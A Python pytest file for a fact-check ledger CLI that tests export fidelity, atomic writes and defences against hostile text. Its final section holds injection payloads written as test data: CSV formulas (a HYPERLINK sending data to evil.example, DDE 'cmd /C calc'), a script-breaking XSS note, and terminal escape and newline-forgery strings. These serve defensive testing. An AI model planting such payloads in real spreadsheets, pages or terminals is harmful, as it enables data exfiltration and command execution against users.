"""The read commands print, byte for byte, what they printed before they streamed
(tests/export_ledger.py builds the ledger; tests/fixtures/exports/ holds the outputs)."""

from __future__ import annotations

import os
import shutil
import sqlite3
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner
from export_ledger import COMMANDS, OUTPUTS, build, output

from ledger import store
from ledger.cli import cli


@pytest.fixture(scope="module")
def fixture_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export-ledger") / "claims.db"
    build(path)
    return path


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_read_commands_print_what_they_printed_before(fixture_db: Path, name: str):
    assert output(fixture_db, COMMANDS[name]) == (OUTPUTS / name).read_bytes()


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "markdown", "claimreview"])
def test_export_to_a_file_writes_what_it_prints(fixture_db: Path, tmp_path: Path, fmt: str):
    target = tmp_path / f"out.{fmt}"
    site = ["--site-url", "https://fc.example/", "--organisation", "Fixture Checks"]
    site = site if fmt == "claimreview" else site[:2]
    result = CliRunner().invoke(
        cli, ["export", "--format", fmt, *site, "--db", str(fixture_db), "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    # every claim, or (claimreview) every claim with a verdict
    counted = "4 review(s)" if fmt == "claimreview" else "6 claim(s)"
    assert result.stderr == f"wrote {counted} as {fmt} to {target}\n"
    assert target.read_bytes() == output(fixture_db, ["export", "--format", fmt, *site])


def test_an_interrupted_export_leaves_the_old_file(
    fixture_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    target = tmp_path / "claims.csv"
    target.write_text("the last export\n", encoding="utf-8")
    target.chmod(0o640)
    monkeypatch.setattr(store, "CLAIMS_BATCH", 2)
    checks_for = store.Ledger._checks_for
    batches = []

    def locked_after_one_batch(ledger: store.Ledger, claim_ids: list[str]):
        batches.append(claim_ids)
        if len(batches) > 1:
            raise sqlite3.OperationalError("database is locked")
        return checks_for(ledger, claim_ids)

    monkeypatch.setattr(store.Ledger, "_checks_for", locked_after_one_batch)
    arguments = ["export", "--db", str(fixture_db), "-o", str(target)]
    result = CliRunner().invoke(cli, arguments)
    assert isinstance(result.exception, sqlite3.OperationalError)
    assert target.read_text(encoding="utf-8") == "the last export\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["claims.csv"]

    monkeypatch.setattr(store.Ledger, "_checks_for", checks_for)
    assert CliRunner().invoke(cli, arguments).exit_code == 0
    assert target.read_bytes() == (OUTPUTS / "export.csv").read_bytes()
    assert target.stat().st_mode & 0o777 == 0o640  # the file replaced keeps its mode


def test_an_export_through_a_symlink_writes_its_target(fixture_db: Path, tmp_path: Path):
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old\n", encoding="utf-8")
    link.symlink_to(real)
    result = CliRunner().invoke(cli, ["export", "--db", str(fixture_db), "-o", str(link)])
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and real.read_bytes() == (OUTPUTS / "export.csv").read_bytes()


def test_an_export_never_replaces_a_database(fixture_db: Path, tmp_path: Path):
    """`-o claims.db` put a CSV in the ledger's place, every note lost; through a link too."""
    ledger = tmp_path / "claims.db"
    shutil.copy(fixture_db, ledger)
    before = ledger.read_bytes()
    (tmp_path / "out.csv").symlink_to(ledger)
    for target in (ledger, tmp_path / "out.csv"):
        result = CliRunner().invoke(cli, ["export", "--db", str(ledger), "-o", str(target)])
        assert (result.exit_code, result.output) == (
            1,
            f"Error: {target} is a SQLite database (a ledger, or reference statistics): an "
            "export never replaces one\n",
        )
    assert ledger.read_bytes() == before


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_an_export_into_a_pipe_is_written_as_is(fixture_db: Path, tmp_path: Path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()))
    reader.start()
    result = CliRunner().invoke(
        cli, ["export", "--format", "jsonl", "--db", str(fixture_db), "-o", str(pipe)]
    )
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert received == [(OUTPUTS / "export.jsonl").read_bytes()]


# --- what the exports and the terminal get from hostile text (issue 19: items 3, 4, 12) ---------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "publisher": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sentence": "-2+3+cmd|' /C calc'!A0 fell 3.2% in 2023.",
}
SCRIPT_NOTE = "</script><script>alert(1)</script> & <!--"


@pytest.fixture()
def hostile_db(tmp_path: Path) -> Path:
    """The export ledger with formulas in a title, a publisher, a sentence and a note, a value of
    -3.2, and a note that closes a <script> element."""
    path = tmp_path / "claims.db"
    build(path)
    with sqlite3.connect(path) as connection:
        connection.execute(
            "update sources set title = ?, publisher = ? where id = 'alpha'",
            [FORMULAS["title"], FORMULAS["publisher"]],
        )
        connection.execute("update claims set value = -3.2 where id = 'c-a1'")
        connection.execute(  # c-a1's sentence (stored once, in `sentences`)
            "update sentences set text = ? where (source_id, start) ="
            " (select source_id, sentence_start from claims where id = 'c-a1')",
            [FORMULAS["sentence"]],
        )
    runner = CliRunner()
    for text, verdict in ((FORMULAS["note"], "accurate"), (SCRIPT_NOTE, "inaccurate")):
        noted = runner.invoke(
            cli,
            [
                "note",
                "c-a1",
                "--verdict",
                verdict,
                "--text",
                text,
                "--reviewer",
                "-x",
                "--db",
                str(path),
            ],
        )
        assert noted.exit_code == 0, noted.output
    return path


def test_csv_export_neutralises_formulas_but_keeps_negative_numbers(hostile_db: Path):
    import csv

    printed = output(hostile_db, ["export", "--format", "csv"]).decode()
    rows = list(csv.DictReader(printed.splitlines(keepends=True)))
    cells = [cell for row in rows for cell in row.values() if cell]
    runnable = [cell for cell in cells if cell[0] in "=+-@\t\r" and not _number(cell)]
    assert runnable == []  # was 20 cells on the probe's ledger
    alpha = next(row for row in rows if row["id"] == "c-a1")
    assert alpha["value"] == "-3.2"
    assert alpha["source_title"] == "'" + FORMULAS["title"]
    assert alpha["source_publisher"] == "'" + FORMULAS["publisher"]
    assert alpha["sentence"] == "'" + FORMULAS["sentence"]
    notes = list(csv.DictReader(output(hostile_db, ["notes", "--csv"]).decode().splitlines()))
    assert [(note["text"], note["reviewer"]) for note in notes[-2:]] == [
        ("'" + FORMULAS["note"], "'-x"),
        (SCRIPT_NOTE, "'-x"),
    ]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_claimreview_is_safe_inside_a_script_element(hostile_db: Path):
    import json

    arguments = ["export", "--format", "claimreview", "--site-url", "https://fc.example"]
    printed = output(hostile_db, arguments).decode()
    assert "<" not in printed and ">" not in printed and "&" not in printed
    bodies = [review.get("reviewBody") for review in json.loads(printed)]
    assert SCRIPT_NOTE in bodies  # the same text, once parsed


def test_the_terminal_gets_no_control_characters(hostile_db: Path, tmp_path: Path):
    runner = CliRunner()
    sneaky = "ok\x1b[2J\x1b]0;pwned\x07 \u202egnp.exe\nfailed: forged"
    noted = runner.invoke(
        cli,
        ["note", "c-a1", "--verdict", "accurate", "--text", sneaky, "--reviewer", "ana"]
        + ["--db", str(hostile_db)],
    )
    assert noted.exit_code == 0
    commands = [["notes"], ["notes", "--json"], ["notes", "--nl"], ["claims"]]
    commands += [["export", "--format", "markdown"], ["export", "--format", "jsonl"]]
    for command in commands:
        shown = output(hostile_db, command).decode()
        assert not any(char in shown for char in "\x1b\x07\u202e"), command
    table = output(hostile_db, ["notes"]).decode()
    assert "ok\\x1b[2J\\x1b]0;pwned\\x07 \\u202egnp.exe" in table
    # a file whose name holds a newline cannot forge a second "failed:" line
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "big\nfailed: forged.txt").write_text("Output rose 2.3% in 2020. " * 100)
    result = runner.invoke(
        cli, ["ingest", str(folder), "--db", str(tmp_path / "new.db"), "--max-size", "0.001"]
    )
    assert result.exit_code == 1
    failed = [line for line in result.stderr.splitlines() if line.startswith("failed:")]
    assert len(failed) == 1 and "big\\nfailed: forged.txt" in failed[0], result.stderr


def test_errors_and_extract_tables_escape_file_names(tmp_path: Path):
    runner = CliRunner()
    missing = runner.invoke(cli, ["claims", "--db", str(tmp_path / "x\x1b[31m\nError: forged.db")])
    assert missing.exit_code == 1
    assert missing.output.count("\n") == 1 and "\\x1b[31m\\nError: forged.db" in missing.output
    source = tmp_path / "wire\x1b]0;pwned\x07.txt"
    source.write_text("Exports fell 4% in 2023, =cmd officials said.\n")
    for fmt in ("table", "csv"):
        shown = runner.invoke(cli, ["extract", str(source), "--format", fmt])
        assert shown.exit_code == 0, shown.output
        assert "\x1b" not in shown.output and "\x07" not in shown.output, fmt
